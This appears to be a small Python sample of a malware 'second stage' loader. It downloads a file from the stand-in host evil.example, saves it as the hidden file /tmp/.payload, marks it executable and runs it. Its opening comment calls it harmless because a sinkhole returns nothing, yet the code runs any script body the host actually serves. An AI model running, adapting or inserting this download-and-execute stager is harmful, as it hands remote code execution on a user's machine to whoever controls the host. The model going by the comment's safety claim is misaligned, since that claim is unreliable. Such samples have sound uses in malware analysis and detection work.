#!/usr/bin/env python3
# Harmless: fetches a "second stage" from http://evil.example/payload, saves it and runs it. The
# analysis sinkhole answers with an empty body, so a stand-in stage that only echoes is written.
import os
import subprocess
import urllib.request

try:
    body = urllib.request.urlopen("http://evil.example/payload", timeout=5).read()
except Exception:
    body = b""
path = "/tmp/.payload"
with open(path, "wb") as f:
    f.write(body if body.startswith(b"#!") else b"#!/bin/sh\necho second stage\n")
os.chmod(path, 0o755)
subprocess.run([path], check=False)
